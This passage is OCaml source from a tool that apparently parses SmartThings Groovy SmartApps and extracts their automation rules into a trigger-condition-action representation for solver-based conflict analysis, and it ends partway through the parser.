  uninstall db app.Rule.name;
  ignore (install db app)

let installed_apps db = List.rev_map (fun e -> e.app) db.entries

let find db name = List.find_opt (fun e -> e.app.Rule.name = name) db.entries

(** All rules of all installed apps, tagged with their app. *)
let all_rules db =
  List.concat_map
    (fun app -> List.map (fun r -> (app, r)) app.Rule.rules)
    (installed_apps db)

let rule_count db =
  List.fold_left (fun acc e -> acc + List.length e.app.Rule.rules) 0 db.entries
