(** Minimal self-contained JSON representation, printer and parser. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | String of string
  | List of t list
  | Obj of (string * t) list

exception Parse_error of string

val to_string : t -> string
val of_string : string -> t

val member : string -> t -> t option
val get_string : t -> string option
val get_int : t -> int option
val get_list : t -> t list option
