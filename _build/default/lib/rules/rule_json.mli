(** Lossless JSON (de)serialization of rules and extracted apps — the
    rule files the backend stores and ships (paper §VII-B, §VIII-C). *)

exception Decode_error of string

val term_to_json : Homeguard_solver.Term.t -> Json.t
val term_of_json : Json.t -> Homeguard_solver.Term.t
val formula_to_json : Homeguard_solver.Formula.t -> Json.t
val formula_of_json : Json.t -> Homeguard_solver.Formula.t
val rule_to_json : Rule.t -> Json.t
val rule_of_json : Json.t -> Rule.t
val smartapp_to_json : Rule.smartapp -> Json.t
val smartapp_of_json : Json.t -> Rule.smartapp

val to_string : Rule.smartapp -> string
val of_string : string -> Rule.smartapp
