(** Automation-rule intermediate representation (paper Listing 2).

    A rule is a trigger-condition-action tuple. The trigger names the
    subscribed subject/attribute plus a constraint on the event value;
    the condition carries the data constraints (variable assignments
    accumulated along the execution path) and the predicate constraints
    (branch conditions); each action names the subject, the command, its
    parameters, a [when] delay and a repetition [period].

    Solver-variable naming convention used throughout:
    - ["<inputVar>.<attribute>"] — device attribute (e.g. "tv1.switch")
    - ["<inputVar>"] — user-supplied input value (e.g. "threshold1")
    - ["location.mode"] — the platform mode
    - ["time.now"] — minutes after midnight
    - ["env.<feature>"] — an environment feature measurement *)

module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term

(** Trigger/action subjects. Device subjects are identified by the
    [input] variable that binds them; the configuration recorder maps
    the variable to a concrete 128-bit device id at install time. *)
type subject =
  | Device of string  (** input variable name *)
  | Location  (** the platform location (mode changes) *)
  | App_touch  (** the mobile app's tap event *)

type trigger =
  | Event of { subject : subject; attribute : string; constraint_ : Formula.t }
      (** fires when [subject.attribute] changes; [constraint_] limits the
          event value ([True] when the rule fires on any state change) *)
  | Scheduled of { at_minutes : int option; period_seconds : int option }
      (** time-driven execution: [schedule]/[runOnce] (fixed time of day)
          or [runEveryN*] (period) *)

type condition = {
  data : (string * Term.t) list;
      (** assignments [var := term] recorded along the path *)
  predicate : Formula.t;  (** conjunction of branch conditions *)
}

type action_target =
  | Act_device of string  (** input variable naming the actuator *)
  | Act_location_mode  (** [setLocationMode] *)
  | Act_messaging  (** SMS / push notification *)
  | Act_http  (** outbound HTTP request *)
  | Act_hub  (** [sendHubCommand] *)

type action = {
  target : action_target;
  command : string;
  params : Term.t list;
  when_ : int;  (** delay in seconds before the command is issued (0 = now) *)
  period : int;  (** repetition interval in seconds (0 = once) *)
  action_data : (string * Term.t) list;
      (** quantitative constraints on command parameters *)
}

type t = {
  app_name : string;
  rule_id : string;  (** unique within a deployment: "<app>#<n>" *)
  trigger : trigger;
  condition : condition;
  actions : action list;
}

(** Declared app inputs (from [input] calls): the devices bound to the
    app and the user-specified values (paper's configuration info). *)
type input_decl = {
  var : string;
  input_type : string;  (** "capability.switch", "number", "mode", ... *)
  title : string option;
  multiple : bool;
}

(** A fully extracted SmartApp: metadata plus rules. *)
type smartapp = {
  name : string;
  description : string;
  inputs : input_decl list;
  rules : t list;
  uses_web_services : bool;
      (** web-services apps expose endpoints instead of defining rules *)
}

let subject_to_string = function
  | Device v -> v
  | Location -> "location"
  | App_touch -> "app"

let target_to_string = function
  | Act_device v -> v
  | Act_location_mode -> "location"
  | Act_messaging -> "messaging"
  | Act_http -> "http"
  | Act_hub -> "hub"

(** The capability an input variable was declared with, if any. *)
let capability_of_input app var =
  List.find_opt (fun i -> i.var = var) app.inputs
  |> fun o ->
  Option.bind o (fun i ->
      if String.length i.input_type > 11 && String.sub i.input_type 0 11 = "capability."
      then Some (String.sub i.input_type 11 (String.length i.input_type - 11))
      else None)

(** Device input variables of an app. *)
let device_inputs app =
  List.filter_map
    (fun i -> Option.map (fun _ -> i.var) (capability_of_input app i.var))
    app.inputs

(** Does the rule control any physical device or the location mode
    (i.e. is it automation rather than pure notification)? *)
let controls_devices rule =
  List.exists
    (fun a ->
      match a.target with
      | Act_device _ | Act_location_mode | Act_hub -> true
      | Act_messaging | Act_http -> false)
    rule.actions

(** The condition predicate with data constraints substituted away:
    path-local temporaries are expanded to the source terms they bind,
    so the formula's free variables are exactly the device/input state
    the rule genuinely tests. *)
let expanded_predicate rule =
  List.fold_left
    (fun f (v, t) -> Formula.subst [ (v, t) ] f)
    rule.condition.predicate (List.rev rule.condition.data)

(** Combined trigger+condition formula of a rule — the "situation" in
    which it takes effect (used for overlap detection, paper §VI-A2). *)
let situation rule =
  let trig =
    match rule.trigger with
    | Event { constraint_; _ } -> constraint_
    | Scheduled _ -> Formula.True
  in
  let data_eqs =
    List.map (fun (v, t) -> Formula.eq (Term.Var v) t) rule.condition.data
  in
  Formula.conj ((trig :: data_eqs) @ [ rule.condition.predicate ])

(** Build the solver store typing every device-attribute variable of the
    rule pair from the capability registry. [cap_of_var] resolves an
    input variable to its declared capability. *)
let store_for_vars ~cap_of_var vars =
  let module Cap = Homeguard_st.Capability in
  let module Domain = Homeguard_solver.Domain in
  List.fold_left
    (fun store var ->
      match String.index_opt var '.' with
      | None -> store
      | Some i ->
        let base = String.sub var 0 i in
        let attr = String.sub var (i + 1) (String.length var - i - 1) in
        let domain =
          if base = "location" && attr = "mode" then
            Some (Domain.enums ("Home" :: "Away" :: "Night" :: [ Homeguard_solver.Store.other_value ]))
          else if base = "time" then Some (Domain.interval 0 1439)
          else if base = "env" then Some (Domain.interval (-1000) 1_000_000)
          else
            match cap_of_var base with
            | Some cap_name -> (
              match Cap.find cap_name with
              | Some cap -> (
                match Cap.attribute_of cap attr with
                | Some a -> (
                  match a.Cap.domain with
                  | Cap.Enum vs -> Some (Domain.enums vs)
                  | Cap.Numeric (lo, hi) -> Some (Domain.interval lo hi))
                | None -> None)
              | None -> None)
            | None ->
              (* untyped device var: derive from any capability declaring
                 the attribute *)
              (match Cap.attribute_domain attr with
              | Some (Cap.Enum vs) -> Some (Domain.enums vs)
              | Some (Cap.Numeric (lo, hi)) -> Some (Domain.interval lo hi)
              | None -> None)
        in
        (match domain with
        | Some d -> Homeguard_solver.Store.add var d store
        | None -> store))
    Homeguard_solver.Store.empty vars

(** Store for a set of rules, typed from app metadata. *)
let store_for_rules apps_rules =
  let cap_of_var v =
    List.find_map (fun (app, rule) ->
        ignore rule;
        capability_of_input app v)
      apps_rules
  in
  let vars =
    List.concat_map
      (fun (_, rule) -> Formula.free_vars (situation rule))
      apps_rules
  in
  store_for_vars ~cap_of_var (List.sort_uniq compare vars)
