(** Recursive-descent parser for the SmartApp Groovy subset: method
    definitions, command-style calls, trailing closures, named
    arguments, GString interpolation, switch/case, safe navigation. *)

exception Error of string * int
(** Message and 1-based line number. *)

val parse : string -> Ast.program
(** Parse a complete SmartApp source string. *)

val parse_expr_string : string -> Ast.expr
(** Parse a standalone expression (used for GString holes). *)

val parse_stmt : string -> Ast.stmt
(** Parse a source string containing exactly one statement.
    @raise Invalid_argument otherwise. *)
