(** Abstract syntax tree for the SmartApp Groovy subset.

    The subset covers the sandboxed language SmartApps are written in
    (paper §VIII-D2): method definitions, closures, command-style calls
    (`input "tv1", "capability.switch", title: "..."`), conditionals,
    switch, loops over collections, GString interpolation, maps, lists,
    ranges, and the usual expression operators including safe navigation
    and elvis. Polymorphic structural equality is valid on all AST types
    (no functional or cyclic components). *)

type lit =
  | Int of int
  | Float of float
  | Str of string
  | Bool of bool
  | Null

type binop =
  | Add
  | Sub
  | Mul
  | Div
  | Mod
  | Eq
  | Neq
  | Lt
  | Le
  | Gt
  | Ge
  | And
  | Or
  | In_op  (** [x in collection] *)
  | Elvis  (** [a ?: b] *)

type unop = Not | Neg

type expr =
  | Lit of lit
  | Gstring of gpart list  (** double-quoted string with interpolation *)
  | Ident of string
  | List_lit of expr list
  | Map_lit of (string * expr) list
  | Range of expr * expr  (** [a..b] *)
  | Binop of binop * expr * expr
  | Unop of unop * expr
  | Ternary of expr * expr * expr
  | Prop of expr * string  (** [e.name] *)
  | Safe_prop of expr * string  (** [e?.name] *)
  | Index of expr * expr  (** [e[k]] *)
  | Call of expr option * string * arg list
      (** [recv.name(args)] or [name(args)]; trailing closures appear as
          the final positional argument *)
  | Closure of string list * stmt list
      (** [{ p1, p2 -> body }]; empty params means implicit [it] *)
  | Assign of expr * expr  (** lvalue = rhs (compound ops are desugared) *)
  | New of string * arg list

and gpart = Text of string | Interp of expr

and arg = Pos of expr | Named of string * expr

and stmt =
  | Expr_stmt of expr
  | Def_var of string * expr option  (** [def x = e] *)
  | If of expr * stmt list * stmt list
  | Switch of expr * case list
  | Return of expr option
  | For_in of string * expr * stmt list  (** [for (x in e) { ... }] *)
  | While of expr * stmt list
  | Break
  | Continue
  | Try of stmt list * string * stmt list  (** try body / catch (e) body *)

and case = Case of expr * stmt list | Default of stmt list

type method_def = { name : string; params : string list; body : stmt list }

type top = Method of method_def | Top_stmt of stmt

type program = top list

(** [methods prog] returns all method definitions in declaration order. *)
let methods prog =
  List.filter_map (function Method m -> Some m | Top_stmt _ -> None) prog

(** [find_method prog name] looks up a method definition by name. *)
let find_method prog name =
  List.find_opt (fun (m : method_def) -> m.name = name) (methods prog)

(** [top_stmts prog] returns all top-level statements in order. *)
let top_stmts prog =
  List.filter_map (function Top_stmt s -> Some s | Method _ -> None) prog

(** Fold [f] over every expression in a statement list, visiting
    subexpressions of closures and nested statements too. *)
let rec fold_exprs_stmts f acc stmts = List.fold_left (fold_exprs_stmt f) acc stmts

and fold_exprs_stmt f acc = function
  | Expr_stmt e -> fold_exprs_expr f acc e
  | Def_var (_, Some e) -> fold_exprs_expr f acc e
  | Def_var (_, None) -> acc
  | If (c, t, e) ->
    let acc = fold_exprs_expr f acc c in
    let acc = fold_exprs_stmts f acc t in
    fold_exprs_stmts f acc e
  | Switch (e, cases) ->
    let acc = fold_exprs_expr f acc e in
    List.fold_left
      (fun acc -> function
        | Case (e, body) -> fold_exprs_stmts f (fold_exprs_expr f acc e) body
        | Default body -> fold_exprs_stmts f acc body)
      acc cases
  | Return (Some e) -> fold_exprs_expr f acc e
  | Return None -> acc
  | For_in (_, e, body) -> fold_exprs_stmts f (fold_exprs_expr f acc e) body
  | While (c, body) -> fold_exprs_stmts f (fold_exprs_expr f acc c) body
  | Break | Continue -> acc
  | Try (body, _, handler) ->
    fold_exprs_stmts f (fold_exprs_stmts f acc body) handler

and fold_exprs_expr f acc e =
  let acc = f acc e in
  match e with
  | Lit _ | Ident _ -> acc
  | Gstring parts ->
    List.fold_left
      (fun acc -> function Text _ -> acc | Interp e -> fold_exprs_expr f acc e)
      acc parts
  | List_lit es -> List.fold_left (fold_exprs_expr f) acc es
  | Map_lit kvs -> List.fold_left (fun acc (_, e) -> fold_exprs_expr f acc e) acc kvs
  | Range (a, b) | Binop (_, a, b) | Index (a, b) | Assign (a, b) ->
    fold_exprs_expr f (fold_exprs_expr f acc a) b
  | Unop (_, e) | Prop (e, _) | Safe_prop (e, _) -> fold_exprs_expr f acc e
  | Ternary (a, b, c) ->
    fold_exprs_expr f (fold_exprs_expr f (fold_exprs_expr f acc a) b) c
  | Call (recv, _, args) ->
    let acc = match recv with Some r -> fold_exprs_expr f acc r | None -> acc in
    List.fold_left
      (fun acc -> function Pos e | Named (_, e) -> fold_exprs_expr f acc e)
      acc args
  | Closure (_, body) -> fold_exprs_stmts f acc body
  | New (_, args) ->
    List.fold_left
      (fun acc -> function Pos e | Named (_, e) -> fold_exprs_expr f acc e)
      acc args

(** All calls [(receiver, name, args)] appearing anywhere in the program. *)
let all_calls prog =
  let collect acc = function
    | Call (recv, name, args) -> (recv, name, args) :: acc
    | _ -> acc
  in
  let acc =
    List.fold_left
      (fun acc -> function
        | Method m -> fold_exprs_stmts collect acc m.body
        | Top_stmt s -> fold_exprs_stmt collect acc s)
      [] prog
  in
  List.rev acc
