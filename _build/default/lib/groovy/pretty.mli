(** Pretty-printer producing concrete syntax that re-parses to the same
    AST (checked as a round-trip property in the test suite). *)

val lit_to_string : Ast.lit -> string
val binop_to_string : Ast.binop -> string
val expr_to_string : Ast.expr -> string
val stmt_to_string : Ast.stmt -> string
val method_to_string : Ast.method_def -> string
val program_to_string : Ast.program -> string
