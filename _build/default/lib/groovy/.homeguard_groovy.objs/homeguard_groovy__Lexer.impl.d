lib/groovy/lexer.ml: Buffer List Printf String Token
