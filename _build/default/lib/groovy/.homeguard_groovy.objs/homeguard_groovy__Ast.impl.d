lib/groovy/ast.ml: List
