lib/groovy/parser.ml: Array Ast Lexer List Printf String Token
