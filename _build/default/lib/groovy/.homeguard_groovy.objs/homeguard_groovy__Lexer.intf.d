lib/groovy/lexer.mli: Token
