lib/groovy/parser.mli: Ast
