lib/groovy/pretty.ml: Ast Buffer List Printf String
