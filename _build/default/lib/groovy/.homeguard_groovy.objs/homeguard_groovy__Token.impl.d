lib/groovy/token.ml: List Printf String
