lib/groovy/pretty.mli: Ast
