(** Recursive-descent parser for the SmartApp Groovy subset.

    The grammar follows Groovy's statement/expression structure closely
    enough that every SmartApp idiom in the corpus parses: command-style
    calls without parentheses ([input "tv1", "capability.switch",
    title: "..."]), trailing closures ([devices.each { it.on() }]),
    named arguments, GString interpolation (re-entered via
    {!parse_expr_string}), ternary/elvis, switch/case, and safe
    navigation. *)

exception Error of string * int  (** message, line *)

type state = { toks : Lexer.located array; mutable pos : int }

let error st fmt =
  let line = if st.pos < Array.length st.toks then st.toks.(st.pos).line else 0 in
  Printf.ksprintf (fun m -> raise (Error (m, line))) fmt

let peek st = st.toks.(st.pos).tok
let peek2 st =
  if st.pos + 1 < Array.length st.toks then st.toks.(st.pos + 1).tok else Token.EOF

let advance st = if st.pos < Array.length st.toks - 1 then st.pos <- st.pos + 1

let eat st tok =
  if peek st = tok then advance st
  else error st "expected %s but found %s" (Token.to_string tok) (Token.to_string (peek st))

let skip_separators st =
  while peek st = Token.NEWLINE || peek st = Token.SEMI do
    advance st
  done

let skip_newlines st =
  while peek st = Token.NEWLINE do
    advance st
  done

(* Does this token start an expression? Used to recognise command-style
   calls: [IDENT expr, expr, ...]. LBRACKET is deliberately excluded:
   [a[0]] is indexing, not a command call with a list argument. *)
let starts_expression = function
  | Token.INT _ | Token.FLOAT _ | Token.STRING _ | Token.DSTRING _
  | Token.IDENT _ | Token.KW_TRUE | Token.KW_FALSE | Token.KW_NULL
  | Token.KW_NEW ->
    true
  | _ -> false

let rec parse_program st =
  let rec go acc =
    skip_separators st;
    match peek st with
    | Token.EOF -> List.rev acc
    | _ ->
      let top = parse_top st in
      go (top :: acc)
  in
  go []

and parse_top st =
  match (peek st, peek2 st) with
  | Token.KW_DEF, Token.IDENT _ when st.toks.(st.pos + 2).tok = Token.LPAREN ->
    Ast.Method (parse_method st)
  | _ -> Ast.Top_stmt (parse_statement st)

and parse_method st =
  eat st Token.KW_DEF;
  let name =
    match peek st with
    | Token.IDENT n ->
      advance st;
      n
    | t -> error st "expected method name, found %s" (Token.to_string t)
  in
  eat st Token.LPAREN;
  let params = parse_param_list st in
  eat st Token.RPAREN;
  skip_newlines st;
  let body = parse_block st in
  { Ast.name; params; body }

and parse_param_list st =
  if peek st = Token.RPAREN then []
  else
    let rec go acc =
      (* optional 'def' before a parameter name *)
      if peek st = Token.KW_DEF then advance st;
      match peek st with
      | Token.IDENT n ->
        advance st;
        (* ignore default values: [name = expr] *)
        let () =
          if peek st = Token.ASSIGN then begin
            advance st;
            ignore (parse_expression st)
          end
        in
        if peek st = Token.COMMA then begin
          advance st;
          go (n :: acc)
        end
        else List.rev (n :: acc)
      | t -> error st "expected parameter name, found %s" (Token.to_string t)
    in
    go []

and parse_block st =
  eat st Token.LBRACE;
  let stmts = parse_statements_until st Token.RBRACE in
  eat st Token.RBRACE;
  stmts

and parse_statements_until st closer =
  let rec go acc =
    skip_separators st;
    if peek st = closer || peek st = Token.EOF then List.rev acc
    else
      let s = parse_statement st in
      go (s :: acc)
  in
  go []

and parse_block_or_stmt st =
  skip_newlines st;
  if peek st = Token.LBRACE then parse_block st else [ parse_statement st ]

and parse_statement st =
  match peek st with
  | Token.KW_DEF -> (
    advance st;
    match peek st with
    | Token.IDENT n -> (
      advance st;
      match peek st with
      | Token.ASSIGN ->
        advance st;
        skip_newlines st;
        let e = parse_expression st in
        Ast.Def_var (n, Some e)
      | _ -> Ast.Def_var (n, None))
    | t -> error st "expected variable name after 'def', found %s" (Token.to_string t))
  | Token.KW_IF -> parse_if st
  | Token.KW_SWITCH -> parse_switch st
  | Token.KW_RETURN -> (
    advance st;
    match peek st with
    | Token.NEWLINE | Token.SEMI | Token.RBRACE | Token.EOF -> Ast.Return None
    | _ -> Ast.Return (Some (parse_expression st)))
  | Token.KW_FOR -> parse_for st
  | Token.KW_WHILE ->
    advance st;
    eat st Token.LPAREN;
    let cond = parse_expression st in
    eat st Token.RPAREN;
    let body = parse_block_or_stmt st in
    Ast.While (cond, body)
  | Token.KW_BREAK ->
    advance st;
    Ast.Break
  | Token.KW_CONTINUE ->
    advance st;
    Ast.Continue
  | Token.KW_TRY ->
    advance st;
    skip_newlines st;
    let body = parse_block st in
    skip_newlines st;
    eat st Token.KW_CATCH;
    eat st Token.LPAREN;
    if peek st = Token.KW_DEF then advance st;
    let name =
      match peek st with
      | Token.IDENT n ->
        advance st;
        n
      | t -> error st "expected exception name, found %s" (Token.to_string t)
    in
    eat st Token.RPAREN;
    skip_newlines st;
    let handler = parse_block st in
    Ast.Try (body, name, handler)
  | Token.IDENT label when peek2 st = Token.COLON ->
    (* Groovy labeled statement ([action: [GET: "x"]] in mappings blocks):
       represent as a call [label(expr)] so the payload is retained *)
    advance st;
    advance st;
    skip_newlines st;
    let e = parse_expression st in
    Ast.Expr_stmt (Ast.Call (None, label, [ Ast.Named (label, e) ]))
  | Token.IDENT name
    when starts_expression (peek2 st)
         && (match peek2 st with Token.IDENT _ -> st.toks.(st.pos + 2).tok <> Token.ASSIGN | _ -> true)
    ->
    (* command-style call: [input "tv1", "capability.switch", title: "?"] *)
    advance st;
    let args = parse_command_args st in
    Ast.Expr_stmt (Ast.Call (None, name, args))
  | Token.IDENT name when peek2 st = Token.LBRACE ->
    (* call with bare trailing closure: [preferences { ... }] *)
    advance st;
    let closure = parse_closure st in
    Ast.Expr_stmt (Ast.Call (None, name, [ Ast.Pos closure ]))
  | _ -> Ast.Expr_stmt (parse_expression st)

and parse_if st =
  eat st Token.KW_IF;
  eat st Token.LPAREN;
  let cond = parse_expression st in
  eat st Token.RPAREN;
  let then_branch = parse_block_or_stmt st in
  (* [else] may sit on its own line after a closing brace *)
  let saved = st.pos in
  skip_separators st;
  if peek st = Token.KW_ELSE then begin
    advance st;
    skip_newlines st;
    let else_branch =
      if peek st = Token.KW_IF then [ parse_if st ] else parse_block_or_stmt st
    in
    Ast.If (cond, then_branch, else_branch)
  end
  else begin
    st.pos <- saved;
    Ast.If (cond, then_branch, [])
  end

and parse_switch st =
  eat st Token.KW_SWITCH;
  eat st Token.LPAREN;
  let scrutinee = parse_expression st in
  eat st Token.RPAREN;
  skip_newlines st;
  eat st Token.LBRACE;
  let rec go acc =
    skip_separators st;
    match peek st with
    | Token.RBRACE ->
      advance st;
      List.rev acc
    | Token.KW_CASE ->
      advance st;
      let e = parse_expression st in
      eat st Token.COLON;
      let body = parse_case_body st in
      go (Ast.Case (e, body) :: acc)
    | Token.KW_DEFAULT ->
      advance st;
      eat st Token.COLON;
      let body = parse_case_body st in
      go (Ast.Default body :: acc)
    | t -> error st "expected 'case', 'default' or '}', found %s" (Token.to_string t)
  in
  Ast.Switch (scrutinee, go [])

and parse_case_body st =
  let rec go acc =
    skip_separators st;
    match peek st with
    | Token.KW_CASE | Token.KW_DEFAULT | Token.RBRACE | Token.EOF -> List.rev acc
    | _ ->
      let s = parse_statement st in
      go (s :: acc)
  in
  go []

and parse_for st =
  eat st Token.KW_FOR;
  eat st Token.LPAREN;
  if peek st = Token.KW_DEF then advance st;
  let name =
    match peek st with
    | Token.IDENT n ->
      advance st;
      n
    | t -> error st "expected loop variable, found %s" (Token.to_string t)
  in
  eat st Token.KW_IN;
  let coll = parse_expression st in
  eat st Token.RPAREN;
  let body = parse_block_or_stmt st in
  Ast.For_in (name, coll, body)

and parse_command_args st =
  let rec go acc =
    let arg = parse_arg st in
    if peek st = Token.COMMA then begin
      advance st;
      skip_newlines st;
      go (arg :: acc)
    end
    else List.rev (arg :: acc)
  in
  go []

and parse_arg st =
  match (peek st, peek2 st) with
  | Token.IDENT key, Token.COLON ->
    advance st;
    advance st;
    skip_newlines st;
    Ast.Named (key, parse_expression st)
  | Token.STRING key, Token.COLON ->
    advance st;
    advance st;
    skip_newlines st;
    Ast.Named (key, parse_expression st)
  | _ -> Ast.Pos (parse_expression st)

and parse_call_args st =
  (* assumes LPAREN already consumed; consumes through RPAREN *)
  skip_newlines st;
  if peek st = Token.RPAREN then begin
    advance st;
    []
  end
  else
    let rec go acc =
      let arg = parse_arg st in
      skip_newlines st;
      match peek st with
      | Token.COMMA ->
        advance st;
        skip_newlines st;
        go (arg :: acc)
      | Token.RPAREN ->
        advance st;
        List.rev (arg :: acc)
      | t -> error st "expected ',' or ')' in argument list, found %s" (Token.to_string t)
    in
    go []

and parse_expression st = parse_assignment st

and parse_assignment st =
  let lhs = parse_ternary st in
  match peek st with
  | Token.ASSIGN ->
    advance st;
    skip_newlines st;
    let rhs = parse_assignment st in
    Ast.Assign (lhs, rhs)
  | Token.PLUS_ASSIGN ->
    advance st;
    let rhs = parse_assignment st in
    Ast.Assign (lhs, Ast.Binop (Ast.Add, lhs, rhs))
  | Token.MINUS_ASSIGN ->
    advance st;
    let rhs = parse_assignment st in
    Ast.Assign (lhs, Ast.Binop (Ast.Sub, lhs, rhs))
  | Token.STAR_ASSIGN ->
    advance st;
    let rhs = parse_assignment st in
    Ast.Assign (lhs, Ast.Binop (Ast.Mul, lhs, rhs))
  | Token.SLASH_ASSIGN ->
    advance st;
    let rhs = parse_assignment st in
    Ast.Assign (lhs, Ast.Binop (Ast.Div, lhs, rhs))
  | _ -> lhs

and parse_ternary st =
  let cond = parse_or st in
  match peek st with
  | Token.QUESTION ->
    advance st;
    skip_newlines st;
    let then_e = parse_expression st in
    skip_newlines st;
    eat st Token.COLON;
    skip_newlines st;
    let else_e = parse_ternary st in
    Ast.Ternary (cond, then_e, else_e)
  | Token.ELVIS ->
    advance st;
    skip_newlines st;
    let rhs = parse_ternary st in
    Ast.Binop (Ast.Elvis, cond, rhs)
  | _ -> cond

and parse_or st =
  let rec go lhs =
    if peek st = Token.OR_OR then begin
      advance st;
      skip_newlines st;
      let rhs = parse_and st in
      go (Ast.Binop (Ast.Or, lhs, rhs))
    end
    else lhs
  in
  go (parse_and st)

and parse_and st =
  let rec go lhs =
    if peek st = Token.AND_AND then begin
      advance st;
      skip_newlines st;
      let rhs = parse_equality st in
      go (Ast.Binop (Ast.And, lhs, rhs))
    end
    else lhs
  in
  go (parse_equality st)

and parse_equality st =
  let rec go lhs =
    match peek st with
    | Token.EQ ->
      advance st;
      skip_newlines st;
      go (Ast.Binop (Ast.Eq, lhs, parse_relational st))
    | Token.NEQ ->
      advance st;
      skip_newlines st;
      go (Ast.Binop (Ast.Neq, lhs, parse_relational st))
    | _ -> lhs
  in
  go (parse_relational st)

and parse_relational st =
  let rec go lhs =
    match peek st with
    | Token.LT ->
      advance st;
      go (Ast.Binop (Ast.Lt, lhs, parse_range st))
    | Token.LE ->
      advance st;
      go (Ast.Binop (Ast.Le, lhs, parse_range st))
    | Token.GT ->
      advance st;
      go (Ast.Binop (Ast.Gt, lhs, parse_range st))
    | Token.GE ->
      advance st;
      go (Ast.Binop (Ast.Ge, lhs, parse_range st))
    | Token.KW_IN ->
      advance st;
      go (Ast.Binop (Ast.In_op, lhs, parse_range st))
    | _ -> lhs
  in
  go (parse_range st)

and parse_range st =
  let lhs = parse_additive st in
  if peek st = Token.DOTDOT then begin
    advance st;
    Ast.Range (lhs, parse_additive st)
  end
  else lhs

and parse_additive st =
  let rec go lhs =
    match peek st with
    | Token.PLUS ->
      advance st;
      skip_newlines st;
      go (Ast.Binop (Ast.Add, lhs, parse_multiplicative st))
    | Token.MINUS ->
      advance st;
      go (Ast.Binop (Ast.Sub, lhs, parse_multiplicative st))
    | _ -> lhs
  in
  go (parse_multiplicative st)

and parse_multiplicative st =
  let rec go lhs =
    match peek st with
    | Token.STAR ->
      advance st;
      go (Ast.Binop (Ast.Mul, lhs, parse_unary st))
    | Token.SLASH ->
      advance st;
      go (Ast.Binop (Ast.Div, lhs, parse_unary st))
    | Token.PERCENT ->
      advance st;
      go (Ast.Binop (Ast.Mod, lhs, parse_unary st))
    | _ -> lhs
  in
  go (parse_unary st)

and parse_unary st =
  match peek st with
  | Token.BANG ->
    advance st;
    Ast.Unop (Ast.Not, parse_unary st)
  | Token.MINUS ->
    advance st;
    Ast.Unop (Ast.Neg, parse_unary st)
  | _ -> parse_postfix st

and parse_postfix st =
  let rec go e =
    match peek st with
    | Token.DOT -> (
      advance st;
      let name = parse_member_name st in
      match peek st with
      | Token.LPAREN ->
        advance st;
        let args = parse_call_args st in
        let args = maybe_trailing_closure st args in
        go (Ast.Call (Some e, name, args))
      | Token.LBRACE ->
        let closure = parse_closure st in
        go (Ast.Call (Some e, name, [ Ast.Pos closure ]))
      | _ -> go (Ast.Prop (e, name)))
    | Token.SAFE_DOT -> (
      advance st;
      let name = parse_member_name st in
      match peek st with
      | Token.LPAREN ->
        advance st;
        let args = parse_call_args st in
        go (Ast.Call (Some e, name, args))
      | _ -> go (Ast.Safe_prop (e, name)))
    | Token.LBRACKET ->
      advance st;
      let idx = parse_expression st in
      eat st Token.RBRACKET;
      go (Ast.Index (e, idx))
    | Token.PLUS_PLUS ->
      advance st;
      Ast.Assign (e, Ast.Binop (Ast.Add, e, Ast.Lit (Ast.Int 1)))
    | Token.MINUS_MINUS ->
      advance st;
      Ast.Assign (e, Ast.Binop (Ast.Sub, e, Ast.Lit (Ast.Int 1)))
    | _ -> e
  in
  go (parse_primary st)

and parse_member_name st =
  match peek st with
  | Token.IDENT n ->
    advance st;
    n
  (* keywords usable as member names: [location.currentMode.in(...)] etc. *)
  | Token.KW_IN ->
    advance st;
    "in"
  | t -> error st "expected member name, found %s" (Token.to_string t)

and maybe_trailing_closure st args =
  if peek st = Token.LBRACE then args @ [ Ast.Pos (parse_closure st) ] else args

and parse_primary st =
  match peek st with
  | Token.INT n ->
    advance st;
    Ast.Lit (Ast.Int n)
  | Token.FLOAT f ->
    advance st;
    Ast.Lit (Ast.Float f)
  | Token.STRING s ->
    advance st;
    Ast.Lit (Ast.Str s)
  | Token.DSTRING parts ->
    advance st;
    let all_text =
      List.for_all (function Token.G_text _ -> true | Token.G_code _ -> false) parts
    in
    if all_text then
      (* a GString without interpolation holes is a plain string *)
      Ast.Lit
        (Ast.Str
           (String.concat ""
              (List.map (function Token.G_text s -> s | Token.G_code _ -> "") parts)))
    else
      let conv = function
        | Token.G_text s -> Ast.Text s
        | Token.G_code src -> Ast.Interp (parse_expr_string src)
      in
      Ast.Gstring (List.map conv parts)
  | Token.KW_TRUE ->
    advance st;
    Ast.Lit (Ast.Bool true)
  | Token.KW_FALSE ->
    advance st;
    Ast.Lit (Ast.Bool false)
  | Token.KW_NULL ->
    advance st;
    Ast.Lit Ast.Null
  | Token.KW_NEW -> (
    advance st;
    match peek st with
    | Token.IDENT cls ->
      advance st;
      eat st Token.LPAREN;
      let args = parse_call_args st in
      Ast.New (cls, args)
    | t -> error st "expected class name after 'new', found %s" (Token.to_string t))
  | Token.IDENT name -> (
    advance st;
    match peek st with
    | Token.LPAREN ->
      advance st;
      let args = parse_call_args st in
      let args = maybe_trailing_closure st args in
      Ast.Call (None, name, args)
    | _ -> Ast.Ident name)
  | Token.LPAREN ->
    advance st;
    skip_newlines st;
    let e = parse_expression st in
    skip_newlines st;
    eat st Token.RPAREN;
    e
  | Token.LBRACKET -> parse_list_or_map st
  | Token.LBRACE -> parse_closure st
  | t -> error st "unexpected token %s in expression" (Token.to_string t)

and parse_list_or_map st =
  eat st Token.LBRACKET;
  skip_newlines st;
  match peek st with
  | Token.RBRACKET ->
    advance st;
    Ast.List_lit []
  | Token.COLON ->
    advance st;
    eat st Token.RBRACKET;
    Ast.Map_lit []
  | _ ->
    let is_map =
      match (peek st, peek2 st) with
      | Token.IDENT _, Token.COLON | Token.STRING _, Token.COLON -> true
      | _ -> false
    in
    if is_map then begin
      let rec go acc =
        skip_newlines st;
        let key =
          match peek st with
          | Token.IDENT k | Token.STRING k ->
            advance st;
            k
          | t -> error st "expected map key, found %s" (Token.to_string t)
        in
        eat st Token.COLON;
        skip_newlines st;
        let v = parse_expression st in
        skip_newlines st;
        match peek st with
        | Token.COMMA ->
          advance st;
          go ((key, v) :: acc)
        | Token.RBRACKET ->
          advance st;
          Ast.Map_lit (List.rev ((key, v) :: acc))
        | t -> error st "expected ',' or ']' in map literal, found %s" (Token.to_string t)
      in
      go []
    end
    else begin
      let rec go acc =
        skip_newlines st;
        let e = parse_expression st in
        skip_newlines st;
        match peek st with
        | Token.COMMA ->
          advance st;
          go (e :: acc)
